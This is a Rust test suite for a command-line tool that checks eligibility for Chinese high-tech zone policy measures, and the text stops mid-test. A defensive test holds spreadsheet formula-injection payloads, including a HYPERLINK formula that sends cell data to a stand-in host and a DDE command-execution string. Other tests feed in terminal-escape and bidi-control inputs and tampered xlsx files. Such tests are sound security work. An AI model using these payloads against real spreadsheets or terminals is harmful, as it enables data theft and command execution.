//! The command line, through the real binary: `check`, `check --jsonl`,
//! `measures`, `--help`, exit statuses, and what goes to stdout and stderr.

use serde_json::Value;
use std::io::Write;
use std::process::{Command, Output, Stdio};

#[cfg(feature = "batch")]
mod trial;

fn run(args: &[&str], stdin: &[u8]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_hitech-eligibility"))
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("binary starts");
    let mut input = child.stdin.take().expect("stdin");
    let bytes = stdin.to_vec();
    let writer = std::thread::spawn(move || {
        // The binary may stop reading early on bad input; a broken pipe is fine.
        let _ = input.write_all(&bytes);
    });
    let output = child.wait_with_output().expect("binary runs");
    writer.join().expect("writer thread");
    output
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn status_of(report: &Value, id: &str) -> String {
    report["results"].as_array().unwrap().iter().find(|r| r["id"] == id).unwrap_or_else(|| panic!("{id} in report"))
        ["status"]
        .as_str()
        .unwrap()
        .to_owned()
}

#[test]
fn check_reads_a_file_and_prints_the_report() {
    let dir = std::env::temp_dir().join(format!("hitech-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("enterprise.json");
    std::fs::write(
        &path,
        r#"{"zone": "chongqing", "highTechEnterprise": true, "aboveDesignatedSize": true, "asOf": "2026-01-01"}"#,
    )
    .unwrap();
    let out = run(&["check", path.to_str().unwrap()], b"");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(out.stderr.is_empty());
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["asOf"], "2026-01-01");
    assert_eq!(report["contract"], 3);
    assert_eq!(report["asOfDefaulted"], false, "the profile states asOf");
    // 推动合作银行……提供: the bank decides, so the loan is conditional, and from a draft.
    assert_eq!(status_of(&report, "chongqing.knowledge-value-loan"), "conditional");
    assert_eq!(status_of(&report, "chongqing.star-listing-award"), "unknown");
    let count = run(&["measures"], b"");
    let catalogue: Value = serde_json::from_slice(&count.stdout).unwrap();
    assert_eq!(report["results"].as_array().unwrap().len(), catalogue.as_array().unwrap().len());
}

#[test]
fn check_reads_stdin_with_a_dash() {
    let out = run(&["check", "-"], br#"{"province": "sichuan", "zoneLevel": "provincial", "foreignNational": true, "highEndTalent": true, "worksInZoneEnterprise": true, "age": 64}"#);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(status_of(&report, "sichuan.work-permit-age-65"), "conditional");
    assert_eq!(status_of(&report, "national.work-permit-age-65"), "ineligible");
}

#[test]
fn bad_input_exits_2_with_the_field_on_stderr_and_nothing_on_stdout() {
    for (input, field) in [
        (&br#"{"revenueYaun": 1}"#[..], "revenueYaun"),
        (br#"{"age": 151}"#, "age"),
        (br#"{"zone": "chengdu", "province": "guizhou"}"#, "province"),
        (b"", "JSON"),
        (b"\xff\xfe{}", "UTF-8"),
        (b"[1,2]", "object"),
    ] {
        let out = run(&["check", "-"], input);
        assert_eq!(out.status.code(), Some(2), "{}", text(input));
        assert!(out.stdout.is_empty(), "{}", text(&out.stdout));
        assert!(text(&out.stderr).contains(field), "{}: {}", field, text(&out.stderr));
    }
    let missing = run(&["check", "/nonexistent/profile.json"], b"");
    assert_eq!(missing.status.code(), Some(2));
    assert!(text(&missing.stderr).contains("/nonexistent/profile.json"));
}

#[test]
fn jsonl_gives_one_line_out_per_line_in_and_exit_2_after_a_bad_line() {
    let input = concat!(
        r#"{"zone": "guiyang", "asOf": "2026-01-01"}"#,
        "\n",
        r#"{"revenueYaun": 5}"#,
        "\n",
        "\n",
        "not json\n",
        "{\"age\": 64}\r\n",
        r#"{"zone": "anshun"}"#
    );
    let out = run(&["check", "--jsonl", "-"], input.as_bytes());
    assert_eq!(out.status.code(), Some(2));
    let lines: Vec<Value> = text(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 6, "N lines in, N lines out");
    assert!(lines[0]["results"].is_array());
    assert_eq!(lines[1]["line"], 2);
    assert!(lines[1]["error"].as_str().unwrap().starts_with("revenueYaun:"));
    assert_eq!(lines[2]["line"], 3);
    assert_eq!(lines[3]["line"], 4);
    assert!(lines[4]["results"].is_array(), "CRLF line ends are fine");
    assert!(lines[5]["results"].is_array(), "a last line without newline is read");
    assert!(text(&out.stderr).contains("3 of 6"));
}

#[test]
fn jsonl_survives_invalid_utf8_and_a_huge_line_without_losing_the_others() {
    let mut input = Vec::new();
    input.extend_from_slice(b"{\"zone\": \"chengdu\"}\n");
    input.extend_from_slice(b"{\"province\": \"\xff\"}\n");
    input.extend_from_slice(b"{\"x\": \"");
    // A 100 MB line: refused as too long without being held in memory.
    input.extend(std::iter::repeat_n(b'a', 100 << 20));
    input.extend_from_slice(b"\"}\n");
    input.extend_from_slice(b"{\"zone\": \"bishan\"}\n");
    let out = run(&["check", "--jsonl", "-"], &input);
    assert_eq!(out.status.code(), Some(2));
    let lines: Vec<Value> = text(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 4);
    assert!(lines[0]["results"].is_array());
    assert_eq!(lines[1], serde_json::json!({"line": 2, "error": "line is not valid UTF-8"}));
    assert_eq!(lines[2]["line"], 3);
    assert!(lines[2]["error"].as_str().unwrap().contains("longer than"));
    assert!(lines[3]["results"].is_array());
}

#[test]
fn jsonl_of_good_lines_exits_0_and_empty_input_gives_no_lines() {
    let out = run(&["check", "--jsonl", "-"], b"{}\n{\"zone\": \"zunyi\"}\n");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout).lines().count(), 2);
    let empty = run(&["check", "--jsonl", "-"], b"");
    assert_eq!(empty.status.code(), Some(0));
    assert!(empty.stdout.is_empty());
}

#[test]
fn measures_prints_the_catalogue_with_quotes_and_sources() {
    let out = run(&["measures"], b"");
    assert_eq!(out.status.code(), Some(0));
    let catalogue: Value = serde_json::from_slice(&out.stdout).unwrap();
    let measures = catalogue.as_array().unwrap();
    assert!(measures.len() >= 30);
    for measure in measures {
        for field in ["id", "jurisdiction", "audiences", "title", "benefit", "document", "clause", "quote", "condition"]
        {
            assert!(!measure[field].is_null(), "{} lacks {field}", measure["id"]);
        }
        // Every party the sentence addresses, in contract 3's names.
        let audiences = measure["audiences"].as_array().unwrap();
        assert!(!audiences.is_empty(), "{}", measure["id"]);
        assert!(audiences.iter().all(|a| ["enterprise", "institution", "person"].contains(&a.as_str().unwrap())));
        // A document's dates are given or null, never left out.
        for field in ["issued", "published", "targetYear", "visionYear"] {
            assert!(measure["document"].get(field).is_some(), "{}: document.{field}", measure["id"]);
        }
        let draft = measure["document"]["status"] == "draft";
        assert_eq!(draft, measure["jurisdiction"] == "chongqing", "{}", measure["id"]);
    }
}

#[test]
fn help_and_usage_errors() {
    let help = run(&["--help"], b"");
    assert_eq!(help.status.code(), Some(0));
    assert!(text(&help.stdout).contains("check --jsonl FILE"));
    for args in [&[][..], &["check"], &["frobnicate"], &["check", "--json", "x"]] {
        let out = run(args, b"");
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(text(&out.stderr).contains("USAGE"), "{args:?}");
        assert!(out.stdout.is_empty());
    }
}

#[test]
fn brief_reports_keep_statuses_and_drop_the_words() {
    let profile = br#"{"zone": "anshun", "foreignNational": true, "age": 64, "asOf": "2026-01-01"}"#;
    let full: Value = serde_json::from_slice(&run(&["check", "-"], profile).stdout).unwrap();
    let out = run(&["check", "--brief", "-"], profile);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let brief: Value = serde_json::from_slice(&out.stdout).unwrap();
    for (b, f) in brief["results"].as_array().unwrap().iter().zip(full["results"].as_array().unwrap()) {
        assert_eq!(b["status"], f["status"]);
        assert_eq!(b["missing"], f["missing"]);
        let states: Vec<&Value> = f["reasons"].as_array().unwrap().iter().map(|r| &r["state"]).collect();
        assert_eq!(b["reasons"].as_array().unwrap().iter().collect::<Vec<_>>(), states);
    }
    let lines = run(&["check", "--jsonl", "--brief", "-"], b"{}\n{}\n");
    assert_eq!(text(&lines.stdout).lines().count(), 2);
    assert_eq!(run(&["check", "--brief", "--brief", "-"], b"{}").status.code(), Some(2));
}

/// Every result of a report carries its nature and draft mark, consistent
/// with the catalogue.
fn assert_nature_and_draft(report: &Value, catalogue: &Value) {
    let results = report["results"].as_array().unwrap();
    let measures = catalogue.as_array().unwrap();
    assert_eq!(results.len(), measures.len());
    for (result, measure) in results.iter().zip(measures) {
        assert_eq!(result["id"], measure["id"]);
        assert_eq!(result["nature"], measure["nature"], "{}", result["id"]);
        assert_eq!(result["draft"], measure["document"]["status"] == "draft", "{}", result["id"]);
    }
}

#[test]
fn every_result_carries_nature_and_draft_in_check_jsonl_and_brief() {
    let catalogue: Value = serde_json::from_slice(&run(&["measures"], b"").stdout).unwrap();
    let profile = br#"{"asOf": "2026-01-01", "zone": "chongqing", "highTechEnterprise": true}"#;
    for args in [&["check", "-"][..], &["check", "--brief", "-"][..]] {
        let out = run(args, profile);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        assert_nature_and_draft(&serde_json::from_slice(&out.stdout).unwrap(), &catalogue);
    }
    for args in [&["check", "--jsonl", "-"][..], &["check", "--jsonl", "--brief", "-"][..]] {
        let out = run(args, profile);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        let line: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(line["contract"], 3);
        assert_nature_and_draft(&line, &catalogue);
    }
    let report: Value = serde_json::from_slice(&run(&["check", "-"], profile).stdout).unwrap();
    let loan = report["results"].as_array().unwrap().iter().find(|r| r["id"] == "chongqing.knowledge-value-loan");
    assert_eq!(loan.unwrap()["draft"], true, "the Chongqing draft's loan says it is a draft");
}

/// Today's date in Beijing, computed here from the clock independently of the binary.
fn beijing_today() -> String {
    let seconds = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs() as i64;
    let days = (seconds + 8 * 3600).div_euclid(86_400);
    hitech_eligibility::CivilDate::from_unix_days(days).unwrap().to_string()
}

#[test]
fn an_empty_profile_is_checked_for_beijings_date_and_says_so() {
    let before = beijing_today();
    let out = run(&["check", "-"], b"{}");
    let after = beijing_today();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["contract"], 3);
    assert_eq!(report["asOfDefaulted"], true);
    let as_of = report["asOf"].as_str().unwrap();
    assert!(as_of == before || as_of == after, "asOf {as_of} is Beijing's date ({before})");
    // In any time zone of the machine.
    let mut child = Command::new(env!("CARGO_BIN_EXE_hitech-eligibility"));
    let out = child
        .args(["check", "--jsonl", "-"])
        .env("TZ", "Pacific/Honolulu")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped());
    let mut child = out.spawn().unwrap();
    child.stdin.take().unwrap().write_all(b"{}\n").unwrap();
    let line: Value = serde_json::from_slice(&child.wait_with_output().unwrap().stdout).unwrap();
    assert!(line["asOf"] == before || line["asOf"] == beijing_today());
    assert_eq!(line["asOfDefaulted"], true);
}

#[test]
fn as_of_sets_the_date_of_profiles_that_state_none_in_both_forms() {
    let out = run(&["check", "--as-of", "2025-03-01", "-"], b"{}");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!((report["asOf"].as_str(), report["asOfDefaulted"].as_bool()), (Some("2025-03-01"), Some(false)));
    let lines = b"{}\n{\"asOf\": \"2024-02-29\"}\n";
    let out = run(&["check", "--jsonl", "--as-of=2025-03-01", "-"], lines);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let dates: Vec<Value> =
        text(&out.stdout).lines().map(|line| serde_json::from_str::<Value>(line).unwrap()["asOf"].clone()).collect();
    assert_eq!(dates, ["2025-03-01", "2024-02-29"], "a profile's own asOf wins");
    let bad = run(&["check", "--as-of", "2025-02-30", "-"], b"{}");
    assert_eq!(bad.status.code(), Some(2));
    assert!(bad.stdout.is_empty());
    assert!(text(&bad.stderr).contains("--as-of"), "{}", text(&bad.stderr));
    assert_eq!(run(&["check", "--as-of", "-"], b"{}").status.code(), Some(2), "a missing date");
}

#[test]
fn a_key_given_twice_exits_2_naming_it() {
    let out = run(&["check", "-"], br#"{"revenueYuan": -1, "revenueYuan": 5}"#);
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stdout.is_empty());
    assert!(text(&out.stderr).contains("revenueYuan: given twice"), "{}", text(&out.stderr));
    let out = run(&["check", "--jsonl", "-"], b"{\"zone\": \"chengdu\", \"zone\": \"chengdu\"}\n{}\n");
    assert_eq!(out.status.code(), Some(2));
    let lines: Vec<Value> = text(&out.stdout).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(lines[0]["line"], 1);
    assert!(lines[0]["error"].as_str().unwrap().starts_with("zone: given twice"));
    assert_eq!(lines[1]["contract"], 3);
}

#[test]
fn check_escapes_control_characters_it_echoes() {
    // ESC, BEL and a newline in a key: a terminal escape and a forged log line.
    let out = run(&["check", "-"], b"{\"a\\u001b[31m\\u0007\\nforged: ok\": 1}");
    assert_eq!(out.status.code(), Some(2));
    let stderr = text(&out.stderr);
    assert!(!stderr.bytes().any(|b| b == 0x1b || b == 0x07), "{stderr:?}");
    assert_eq!(stderr.lines().count(), 1, "one line, no forged second one: {stderr:?}");
    assert!(stderr.contains("\\u{1b}[31m\\u{7}\\nforged: ok: unknown field"), "{stderr:?}");
    let out = run(&["check", "--bogus\u{1b}]0;x\u{7}"], b"");
    assert_eq!(out.status.code(), Some(2));
    assert!(!text(&out.stderr).bytes().any(|b| b == 0x1b || b == 0x07));
}

#[test]
fn check_escapes_bidi_controls_and_line_separators_it_echoes() {
    // RLO and U+2028 in a value: a line shown reordered ("exe.txt") and a
    // forged second line; and every other reordering character.
    let hidden = [
        "\u{202A}", "\u{202B}", "\u{202C}", "\u{202D}", "\u{202E}", "\u{2066}", "\u{2067}", "\u{2068}", "\u{2069}",
        "\u{200E}", "\u{200F}", "\u{061C}", "\u{2028}", "\u{2029}",
    ];
    let value: String = hidden.iter().map(|c| format!("x{c}")).collect();
    let out = run(&["check", "-"], serde_json::json!({ "zone": value }).to_string().as_bytes());
    assert_eq!(out.status.code(), Some(2));
    let stderr = text(&out.stderr);
    for c in hidden {
        assert!(!stderr.contains(c), "{c:?} raw in {stderr:?}");
    }
    assert!(stderr.contains("x\\u{202e}x\\u{2066}"), "{stderr:?}");
    assert!(stderr.contains("x\\u{2028}x\\u{2029}"), "{stderr:?}");
}

#[test]
fn check_refuses_an_input_over_one_mebibyte_and_takes_one_of_exactly_that() {
    let big = format!("{{\"zone\": \"chengdu\"{}}}", " ".repeat((1 << 20) - 19));
    assert_eq!(big.len(), 1 << 20);
    let out = run(&["check", "--as-of", "2026-01-01", "-"], big.as_bytes());
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let bigger = format!("{big} ");
    let out = run(&["check", "-"], bigger.as_bytes());
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stdout.is_empty());
    assert!(text(&out.stderr).contains("longer than 1048576 bytes"), "{}", text(&out.stderr));
}

/// `check --csv`'s output as a table (without the byte-order mark).
#[cfg(feature = "batch")]
fn csv_table(bytes: &[u8]) -> Vec<Vec<String>> {
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 with a byte-order mark, for Excel");
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    assert!(text.ends_with("\r\n") && !text.replace("\r\n", "").contains('\n'), "CRLF line ends");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[cfg(feature = "batch")]
fn batch_fixture(name: &str) -> String {
    format!("{}/tests/fixtures/batch/{name}", env!("CARGO_MANIFEST_DIR"))
}

#[test]
#[cfg(feature = "batch")]
fn check_csv_and_check_jsonl_agree_row_for_row() {
    // The same 1,000 enterprises as a GBK CSV with Chinese headers and as
    // JSON profiles (written by the fixture's generator from the same facts).
    let csv_path = batch_fixture("enterprises-gbk.csv");
    let out = run(&["check", "--csv", &csv_path, "--as-of", "2026-11-29", "--jobs", "2"], b"");
    assert_eq!(out.status.code(), Some(2), "bad rows: exit 2 at the end");
    let stderr = text(&out.stderr);
    assert!(stderr.contains("row 5, column 5 (营业收入（万元）) \"5OO\": read \"5\", then \"O\""), "{stderr}");
    assert!(stderr.trim_end().ends_with("40 of 1000 rows could not be checked"), "{stderr}");
    let table = csv_table(&out.stdout);
    assert_eq!(table.len(), 1001, "rows in = rows out");
    let header = &table[0];
    let error = header.iter().position(|h| h == "error").unwrap();
    assert_eq!(
        &header[..error],
        [
            "企业名称",
            "统一社会信用代码",
            "所在高新区",
            "所在省份",
            "营业收入（万元）",
            "研发费用（万元）",
            "是否高新技术企业",
            "是否规上",
            "科技型中小企业",
            "是否在科创板上市",
            "联系人",
            "code check"
        ]
    );

    let jsonl = std::fs::read(batch_fixture("enterprises.jsonl")).unwrap();
    let out = run(&["check", "--jsonl", "-", "--as-of", "2026-11-29", "--brief"], &jsonl);
    let reports: Vec<Value> = text(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(reports.len(), 1000);
    let mut checked = 0;
    for (row, report) in table[1..].iter().zip(&reports) {
        if report.get("error").is_some() {
            assert!(!row[error].is_empty(), "line {} is an error, row {} too", report["line"], row[0]);
            assert!(row[error + 1..].iter().all(String::is_empty));
            continue;
        }
        assert!(row[error].is_empty(), "{}: {}", row[0], row[error]);
        checked += 1;
        for (position, result) in report["results"].as_array().unwrap().iter().enumerate() {
            let id = result["id"].as_str().unwrap();
            assert_eq!(header[error + 1 + 2 * position], format!("{id} status"));
            assert_eq!(row[error + 1 + 2 * position], result["status"].as_str().unwrap(), "{} {id}", row[0]);
            let missing: Vec<&str> =
                result["missing"].as_array().unwrap().iter().map(|m| m.as_str().unwrap()).collect();
            let expected = if result["status"] == "unknown" { missing.join(";") } else { String::new() };
            assert_eq!(row[error + 2 + 2 * position], expected, "{} {id} missing", row[0]);
        }
    }
    assert_eq!(checked, 960);
}

#[test]
#[cfg(feature = "batch")]
fn check_csv_gives_the_same_output_on_one_thread_and_on_several() {
    let path = batch_fixture("enterprises-gbk.csv");
    let one = run(&["check", "--csv", &path, "--as-of", "2026-11-29", "--jobs", "1"], b"");
    let three = run(&["check", "--csv", &path, "--as-of=2026-11-29", "--jobs=3"], b"");
    let env = Command::new(env!("CARGO_BIN_EXE_hitech-eligibility"))
        .args(["check", "--csv", &path, "--as-of", "2026-11-29"])
        .env("HITECH_JOBS", "2")
        .output()
        .unwrap();
    assert!(!one.stdout.is_empty());
    assert_eq!(one.stdout, three.stdout);
    assert_eq!(one.stdout, env.stdout);
    assert_eq!(one.stderr, three.stderr);
    // Told the encoding, not guessed: the same; told wrong, nothing maps.
    let told =
        run(&["check", "--csv", "-", "--encoding", "gb18030", "--as-of", "2026-11-29"], &std::fs::read(&path).unwrap());
    assert_eq!(told.stdout, one.stdout);
    let wrong = run(&["check", "--csv", &path, "--encoding", "utf-8", "--as-of", "2026-11-29"], b"");
    let table = csv_table(&wrong.stdout);
    assert_eq!(table.len(), 1001);
    assert!(table[0][0].contains('\u{FFFD}'), "GBK read as UTF-8: {}", table[0][0]);
    for bad in [&["--jobs", "0"][..], &["--encoding", "latin1"], &["--brief"]] {
        let out = run(&[&["check", "--csv", &path][..], bad].concat(), b"");
        assert_eq!(out.status.code(), Some(2), "{bad:?}");
        assert!(out.stdout.is_empty(), "{bad:?}");
    }
    let out = run(&["check", "--encoding", "utf-8", "-"], b"{}");
    assert_eq!(out.status.code(), Some(2), "--encoding is for --csv");
}

#[test]
#[cfg(feature = "batch")]
fn check_csv_writes_cells_that_would_start_a_formula_as_text() {
    let payloads = [
        "=HYPERLINK(\"http://x.test/?\"&C2)",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "＝1",
        "＋1",
        "－1",
        "＠1",
    ];
    let mut input = String::from("企业名称,营业收入（万元）,=1+1\r\n");
    for payload in payloads {
        let quoted = format!("\"{}\"", payload.replace('"', "\"\""));
        input.push_str(&format!("{quoted},{quoted},{quoted}\r\n"));
    }
    let out = run(&["check", "--csv", "-", "--as-of", "2026-11-29"], input.as_bytes());
    assert_eq!(out.status.code(), Some(2), "the amounts are bad cells: {}", text(&out.stderr));
    let table = csv_table(&out.stdout);
    assert_eq!(table[0][2], "'=1+1");
    for (row, payload) in table[1..].iter().zip(payloads) {
        assert_eq!(row[..3], [format!("'{payload}"), format!("'{payload}"), format!("'{payload}")]);
    }
    for cell in table.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']), "{cell:?}");
    }
}

#[test]
#[cfg(feature = "batch")]
fn check_csv_reads_a_gbk_file_cut_in_the_middle_of_a_character() {
    let (body, _, _) = encoding_rs::GB18030.encode("企业名称,是否高新技术企业\r\n甲公司,是\r\n乙公司,否\r\n丙");
    let mut bytes = body.into_owned();
    bytes.push(0x81); // the first byte of a two-byte character, and then the end
    let dir = std::env::temp_dir().join(format!("hitech-cut-gbk-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("cut.csv");
    std::fs::write(&path, &bytes).unwrap();
    let from_file = run(&["check", "--csv", path.to_str().unwrap(), "--as-of", "2026-11-29"], b"");
    let from_pipe = run(&["check", "--csv", "-", "--as-of", "2026-11-29"], &bytes);
    std::fs::remove_dir_all(&dir).unwrap();
    for out in [&from_file, &from_pipe] {
        assert!(!text(&out.stderr).contains("panicked"), "{}", text(&out.stderr));
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        let table = csv_table(&out.stdout);
        let names: Vec<&str> = table.iter().map(|row| row[0].as_str()).collect();
        assert_eq!(names, ["企业名称", "甲公司", "乙公司", "丙\u{FFFD}"], "every row, the cut character as U+FFFD");
    }
    let bom_only = run(&["check", "--csv", "-", "--encoding", "gb18030"], b"\xEF\xBB\xBF");
    assert!(!text(&bom_only.stderr).contains("panicked"), "{}", text(&bom_only.stderr));
    assert!(matches!(bom_only.status.code(), Some(0 | 2)), "{}", text(&bom_only.stderr));
}

/// An .xlsx of `rows` (by rust_xlsxwriter) with each part's text changed
/// by `change`, as a hostile file is made.
#[cfg(feature = "batch")]
fn changed_xlsx(rows: &[&[&str]], change: impl Fn(&str, String) -> String) -> Vec<u8> {
    use std::io::Read;
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (r, row) in rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            sheet.write_string(u32::try_from(r).unwrap(), u16::try_from(c).unwrap(), *cell).unwrap();
        }
    }
    let bytes = workbook.save_to_buffer().unwrap();
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for index in 0..archive.len() {
        let mut entry = archive.by_index(index).unwrap();
        let name = entry.name().unwrap().into_owned();
        let mut text = String::new();
        entry.read_to_string(&mut text).unwrap();
        out.start_file(name.as_str(), zip::write::SimpleFileOptions::default()).unwrap();
        out.write_all(change(&name, text).as_bytes()).unwrap();
    }
    out.finish().unwrap().into_inner()
}

#[test]
#[cfg(feature = "batch")]
fn check_csv_refuses_a_file_over_a_limit_with_exit_2() {
    let rows: &[&[&str]] = &[&["企业名称", "是否高新技术企业"], &["甲公司", "是"]];
    let lying = changed_xlsx(rows, |name, text| {
        if name.ends_with("sharedStrings.xml") {
            let at = text.find("uniqueCount=\"").unwrap() + "uniqueCount=\"".len();
            let end = at + text[at..].find('"').unwrap();
            format!("{}4294967295{}", &text[..at], &text[end..])
        } else {
            text
        }
    });
    let far = changed_xlsx(
        rows,
        |name, text| if name.ends_with("sheet1.xml") { text.replace("B2", "XFD1048577") } else { text },
    );
    let long_cell = format!("企业名称,备注\r\n甲公司,{}\r\n", "长".repeat(32_768));
    for (input, said) in [
        (lying, "the shared strings say they are 4294967295 but hold at most 4"),
        (far, "row 1048577: more rows than a worksheet holds (1048576)"),
        (long_cell.into_bytes(), "row 2, column 2: a cell longer than 32767 characters"),
    ] {
        let out = run(&["check", "--csv", "-", "--as-of", "2026-11-29"], &input);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{stderr}");
        assert!(stderr.contains("the file is over a limit: ") && stderr.contains(said), "{said}: {stderr}");
    }
}

#[test]
#[cfg(feature = "batch")]
fn check_csv_exits_2_on_a_quoted_cell_never_closed() {
    let input = "企业名称,备注\r\n甲公司,好\r\n乙公司,\"未闭合\r\n丙公司,是\r\n丁公司,是\r\n";
    let gbk = encoding_rs::GB18030.encode(input).0.into_owned();
    for (encoding, bytes) in [("auto", input.as_bytes().to_vec()), ("gb18030", gbk)] {
        let out = run(&["check", "--csv", "-", "--encoding", encoding, "--as-of", "2026-11-29"], &bytes);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{stderr}");
        assert!(stderr.contains("a quoted cell opened on line 3 is never closed"), "{stderr}");
        let names: Vec<String> = csv_table(&out.stdout).into_iter().map(|row| row[0].clone()).collect();
        assert_eq!(names, ["企业名称", "甲公司", "乙公司"], "the rows before it are written");
    }
}

#[test]
#[cfg(feature = "batch")]
fn check_csv_reads_gbk_after_a_utf8_byte_order_mark_as_gbk() {
    let gbk = encoding_rs::GB18030.encode("企业名称,是否高新技术企业\r\n甲公司,是\r\n").0.into_owned();
    let lying = [b"\xEF\xBB\xBF".as_slice(), &gbk].concat();
    for encoding in ["auto", "gb18030"] {
        let out = run(&["check", "--csv", "-", "--encoding", encoding, "--as-of", "2026-11-29"], &lying);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        let table = csv_table(&out.stdout);
        assert_eq!(table[0][..2], ["企业名称", "是否高新技术企业"]);
        assert_eq!(table[1][..2], ["甲公司", "是"]);
    }
}

#[test]
#[cfg(feature = "batch")]
fn check_csv_stops_at_a_row_past_the_first_mebibyte_that_is_not_utf8() {
    // UTF-8 for more than the mebibyte the encoding is guessed from, then a GBK row.
    let mut input = "企业名称,备注\r\n".as_bytes().to_vec();
    let mut rows = 0;
    while input.len() <= 1 << 20 {
        input.extend_from_slice("甲公司,一行中文备注\r\n".as_bytes());
        rows += 1;
    }
    input.extend(encoding_rs::GB18030.encode("乙公司,是\r\n丙公司,是\r\n").0.iter());
    let out = run(&["check", "--csv", "-", "--as-of", "2026-11-29"], &input);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains(&format!("row {} is not UTF-8", rows + 2)) && stderr.contains("--encoding gb18030"),
        "{stderr}"
    );
    let table = csv_table(&out.stdout);
    assert_eq!(table.len(), rows + 1, "every row before it is written");
    assert!(!String::from_utf8_lossy(&out.stdout).contains('\u{FFFD}'), "no row of U+FFFD");
    let told = run(&["check", "--csv", "-", "--encoding", "utf-8", "--as-of", "2026-11-29"], &input);
    assert_eq!(csv_table(&told.stdout).len(), rows + 3, "told UTF-8, it reads on (U+FFFD), as before");
}

#[test]
#[cfg(feature = "batch")]
fn check_csv_reads_an_xlsx_too() {
    // The same two enterprises as CSV and as the first sheet of an .xlsx.
    let rows = [
        ["企业名称", "所在高新区", "营业收入（万元）", "是否高新技术企业", "是否规上", "是否在科创板上市"],
        ["甲公司", "重庆高新区", "8000", "是", "是", "是"],
        ["乙公司", "贵阳高新区", "abc", "否", "否", "否"],
    ];
    let csv_text: String = rows.iter().map(|row| row.join(",") + "\r\n").collect();
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (r, row) in rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            sheet.write_string(u32::try_from(r).unwrap(), u16::try_from(c).unwrap(), *cell).unwrap();
        }
    }
    let xlsx = workbook.save_to_buffer().unwrap();
    let from_csv = run(&["check", "--csv", "-", "--as-of", "2026-11-29"], csv_text.as_bytes());
    let from_xlsx = run(&["check", "--csv", "-", "--as-of", "2026-11-29"], &xlsx);
    assert_eq!(from_xlsx.status.code(), Some(2), "{}", text(&from_xlsx.stderr));
    assert_eq!(from_csv.stdout, from_xlsx.stdout);
    assert_eq!(text(&from_xlsx.stderr), text(&from_csv.stderr));
    assert!(text(&from_xlsx.stderr).contains("row 3, column 3 (营业收入（万元）)"));
    let table = csv_table(&from_xlsx.stdout);
    let award = table[0].iter().position(|h| h == "chongqing.star-listing-award status").unwrap();
    assert_eq!(table[1][award], "eligible");
}

/// `check FILE` prints what the compiled path writes (as `--jsonl` does),
/// indented: byte for byte the reference tree walk's report as serde writes
/// it indented, for every valid profile of the fuzz corpus, full and brief.
#[test]
fn check_file_prints_the_compiled_report_identical_to_the_reference_walk() {
    use hitech_eligibility::output::report::reference;
    use hitech_eligibility::{CivilDate, Profile};
    let corpus: Vec<String> =
        serde_json::from_str(include_str!("fuzz-corpus/profile_json.json")).expect("the fuzz corpus is a JSON array");
    let today = CivilDate::parse("2026-06-30").unwrap();
    let mut checked = 0;
    for profile in corpus.iter().filter(|t| t.len() < 4096) {
        let Ok(facts) = Profile::from_json(profile, today) else { continue };
        for (explain, flags) in [
            (true, &["check", "--as-of", "2026-06-30", "-"][..]),
            (false, &["check", "--brief", "--as-of", "2026-06-30", "-"][..]),
